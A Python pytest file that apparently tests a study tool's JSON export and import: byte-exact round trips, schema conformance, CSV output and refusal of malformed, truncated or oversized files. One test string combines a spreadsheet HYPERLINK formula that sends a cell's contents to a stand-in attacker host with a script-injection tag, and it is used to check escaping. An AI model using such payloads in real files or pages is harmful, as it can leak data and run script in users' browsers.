import csv
import io
import json
import random
from pathlib import Path
from typing import Any

import msgspec
import pytest

from engine.core.errors import BadInput
from engine.study import reading
from engine.study.beside import Beside, PairChoice, Spent
from engine.study.export import Export, Seen, exported, rows, schema, without_texts
from engine.study.html import page_of
from engine.study.tables import table
from tests.factories.people import at_rates, plan_of, rated

SCHEMA = Path(__file__).resolve().parents[3] / "docs" / "study.schema.json"
NASTY = '=HYPERLINK("http://evil.example/?"&A1) </script><script>alert(1)</script>'


@pytest.fixture(scope="module")
def seen() -> Seen:
    """A study with everything that one can have: costs, how sure, pairs, a hostile text."""
    found = rated(
        plan_of("plain", "topics", "likes", blocks=8),
        at_rates(plain=0.2, topics=0.8, likes=0.5, human=0.5),
        seed=7,
        person="abc",
    )
    rng = random.Random(1)
    cards = (msgspec.structs.replace(found.cards[0], text=NASTY), *found.cards[1:])
    beside = Beside(
        spent=tuple(
            Spent(card_id=card.id, tokens=9 + n, seconds=0.1 * n, gb_seconds=0.2 * n, peak_gb=1.5, usd=0.001, texts=4)
            for n, card in enumerate(cards)
        ),
        sure={card.id: 1 + n % 3 for n, card in enumerate(cards)},
        pairs=tuple(
            PairChoice(block=block, left="plain", right="topics", chosen=rng.choice(("left", "right", "neither")))
            for block in range(8)
        ),
    )
    return msgspec.structs.replace(found, cards=cards, beside=beside)


@pytest.fixture(scope="module")
def data(seen: Seen) -> bytes:
    """Its export."""
    return exported(seen)


def test_a_study_read_back_gives_the_same_report_page_and_data_to_the_byte(seen: Seen, data: bytes):
    again = reading.decoded(data, "mine.json")

    assert msgspec.json.encode(again.report()) == msgspec.json.encode(seen.report())
    assert page_of(again) == page_of(seen)
    assert exported(again) == data
    assert table(rows(again)) == table(rows(seen))


def test_what_the_report_in_a_file_says_is_not_believed(seen: Seen, data: bytes):
    lie = json.loads(data)
    lie["report"]["arms"][1]["likes"] = 999
    lie["report"]["checks"]["allocation"] = False

    assert reading.decoded(json.dumps(lie).encode(), "lie.json").report() == seen.report()


def test_fields_that_this_version_does_not_know_are_ignored(seen: Seen, data: bytes):
    newer = json.loads(data)
    newer["chain"] = {"head": "f" * 64}
    newer["events"][0]["hash"] = "0" * 64
    newer["study"]["commitment_kind"] = "sha256"

    assert reading.decoded(json.dumps(newer).encode(), "newer.json").report() == seen.report()


def test_without_texts_the_report_is_the_same_and_no_text_is_left(seen: Seen):
    twice = msgspec.structs.replace(seen.cards[3], text=f"  {seen.cards[2].text.upper()} ")
    told = msgspec.structs.replace(seen, cards=(*seen.cards[:3], twice, *seen.cards[4:]))
    bare = without_texts(told)
    data = exported(bare)

    assert bare.report() == told.report()
    assert "duplicates" in [each.name for each in bare.report().in_depth.checks if not each.fine]  # pyright: ignore
    assert b"Words number" not in data
    assert b"evil" not in data
    assert "texts were left out" in page_of(bare)
    assert page_of(reading.decoded(data, "x")) == page_of(bare)
    assert '"generation_id": 1' not in data.decode()


# ── the form ─────────────────────────────────────────────────────────────────────────────────────────────────────────


def fits(value: Any, form: dict[str, Any], whole: dict[str, Any]) -> bool:
    """Whether a value keeps to a JSON Schema, of the words that ours uses; any other word fails."""
    known = {"$ref", "anyOf", "type", "enum", "properties", "required", "items", "additionalProperties", "default"}
    assert set(form) <= known | {"title", "description", "$schema", "$defs", "const"}, set(form) - known
    if "$ref" in form:
        return fits(value, whole["$defs"][form["$ref"].removeprefix("#/$defs/")], whole)
    if "anyOf" in form:
        return any(fits(value, each, whole) for each in form["anyOf"])
    if "enum" in form:
        return value in form["enum"]
    kinds = {"object": dict, "array": list, "string": str, "null": type(None), "boolean": bool, "integer": int}
    if form.get("type") == "number":
        return isinstance(value, int | float) and not isinstance(value, bool)
    if "type" in form and (not isinstance(value, kinds[form["type"]]) or (form["type"] == "integer" and value is True)):
        return False
    if isinstance(value, dict):
        named, rest = form.get("properties", {}), form.get("additionalProperties", {})
        inside = all(fits(each, named.get(name, rest), whole) for name, each in value.items())  # pyright: ignore
        return inside and set(form.get("required", ())) <= set(value)  # pyright: ignore[reportUnknownArgumentType]
    return not isinstance(value, list) or all(fits(each, form.get("items", {}), whole) for each in value)  # pyright: ignore


def test_the_schema_in_the_docs_is_that_of_the_code():
    assert SCHEMA.read_bytes() == schema(), "run: python -m recipes.study_schema"


def test_an_export_keeps_to_the_schema_in_the_docs(data: bytes):
    form = json.loads(SCHEMA.read_text("utf-8"))

    assert fits(json.loads(data), form, form)


@pytest.mark.parametrize(
    "spoil",
    [
        lambda data: data.pop("events"),
        lambda data: data["events"][0].update(at="now"),
        lambda data: data["events"][0].pop("kind"),
        lambda data: data["cards"][0].update(position=1.5),
        lambda data: data["beside"]["pairs"][0].update(chosen="middle"),
        lambda data: data.update(texts="yes"),
    ],
)
def test_the_schema_refuses_what_is_no_export(data: bytes, spoil: Any):
    form, spoilt = json.loads(SCHEMA.read_text("utf-8")), json.loads(data)
    spoil(spoilt)

    assert not fits(spoilt, form, form)


def test_every_event_stands_in_the_csv_and_nothing_runs_in_a_spreadsheet(seen: Seen):
    found = list(csv.DictReader(io.StringIO(table(rows(seen)).decode(), newline="")))
    arms = {each.card_id: each.arm for each in seen.opened.assignments}

    assert [int(row["event"]) for row in found] == [event.id for event in seen.events]
    assert all(row["arm"] == arms.get(row["card"], "") for row in found)
    assert {row["rating"] for row in found if row["kind"] == "rated"} <= {"like", "neutral", "dislike"}
    assert all(row["sure"] in "123" for row in found if row["kind"] == "rated")
    assert {row["seen"] for row in found} == {"0"}
    met = msgspec.structs.replace(seen, events=[msgspec.structs.replace(each, seen=True) for each in seen.events])
    assert [row[-3:] for row in rows(met)[1:]] == [("1", "", "")] * len(seen.events)
    assert found[0]["text"] == f"'{NASTY}"
    assert table([("-1.5", "+cmd", "@x", "plain")]) == b"-1.5,'+cmd,'@x,plain\r\n"


# ── hostile files ────────────────────────────────────────────────────────────────────────────────────────────────────


def refused(data: bytes) -> str:
    with pytest.raises(BadInput) as caught:
        reading.decoded(data, "bad.json")
    assert caught.value.message.startswith("bad.json")
    return caught.value.message


def change(path: str, value: object) -> Any:
    """Return a spoiler: sets what lies at a dotted path."""
    *way, last = path.split(".")

    def spoil(data: Any) -> None:
        for step in way:
            data = data[int(step) if step.isdigit() else step]
        data[int(last) if last.isdigit() else last] = value

    return spoil


@pytest.mark.parametrize(
    "spoil",
    [
        change("format", "other"), change("version", 99), change("version", "2"), change("plan_json", "{"),
        change("plan_json", "[]"), change("study.seed", "-1"), change("study.seed", "9" * 40), change("study.seed", ""),
        change("study.revealed_at", None), change("study.at", -1), change("study.at", 1e300), change("cards", []),
        change("cards.0.position", 5), change("cards.0.id", "c1"), change("cards.0.text", "x" * 20_000),
        change("assignments.0.card_id", "c9"), change("assignments.0.arm", "nobody"), change("assignments", []),
        change("events.1.rating", "adore"), change("events.1.ai", "robot"), change("events.1.card_id", "who"),
        change("events.1.card_id", None), change("events.1.id", 0), change("events.0.at", -5.0),
        change("beside.sure", {"who": 1}), change("beside.spent.0.tokens", -9), change("beside.spent.0.card_id", "who"),
        change("beside.spent.0.seconds", 1e200), change("beside.pairs.0.left", "topics"),
        change("beside.pairs.0.left", "nobody"), change("person", "p" * 999), change("study.id", "s" * 999),
        change("judgements", [{"card_id": "c0", "judge": "j", "judge_hash": "h", "p_funny": 1.5}]),
        change("judgements", [{"card_id": "who", "judge": "j", "judge_hash": "h", "p_funny": 0.5}]),
    ],
)  # fmt: skip
def test_a_file_that_does_not_fit_is_refused_by_name(data: bytes, spoil: Any):
    spoilt = json.loads(data)
    spoil(spoilt)

    refused(json.dumps(spoilt).encode())


@pytest.mark.parametrize(
    "wrong", [("human_share", 0.01), ("cards", 10**7), ("ai_question_share", 1e308), ("floor", "?")]
)
def test_a_plan_that_cannot_be_is_refused(data: bytes, wrong: tuple[str, object]):
    spoilt = json.loads(data)
    plan = json.loads(spoilt["plan_json"])
    plan[wrong[0]] = wrong[1]
    spoilt["plan_json"] = json.dumps(plan)

    refused(json.dumps(spoilt).encode())


@pytest.mark.parametrize(
    "data", [b"", b"[]", b"null", b"\xff\xfe", b'{"format":', b"[" * 100_000, b'{"format":"inside-joke/study"}']
)
def test_bytes_that_are_no_study_are_refused(data: bytes):
    refused(data)


def test_a_cut_file_is_refused_wherever_it_was_cut(data: bytes):
    for end in range(0, len(data) - 2, len(data) // 40):
        refused(data[:end])


def test_a_file_of_any_size_is_not_even_opened(tmp_path: Path):
    huge = tmp_path / "huge.json"
    with huge.open("wb") as file:
        file.truncate(reading.MOST_BYTES + 1)

    with pytest.raises(BadInput, match="larger than 64 MB"):
        reading.read(huge)
    with pytest.raises(BadInput, match="no file"):
        reading.read(tmp_path / "missing.json")
    with pytest.raises(BadInput, match="no file"):
        reading.read(tmp_path)


def test_an_edited_order_is_read_and_named_as_broken(data: bytes):
    edited = json.loads(data)
    places = {each["arm"]: n for n, each in enumerate(edited["assignments"]) if each["block"] == 0}
    one, other = places["plain"], places["topics"]
    edited["assignments"][one]["arm"], edited["assignments"][other]["arm"] = "topics", "plain"
    report = reading.decoded(json.dumps(edited).encode(), "x").report()

    assert report.checks is not None
    assert not report.checks.allocation
    assert report.caveats[0].startswith("Do not trust this report")
    assert Export.__struct_fields__[0] == "format"
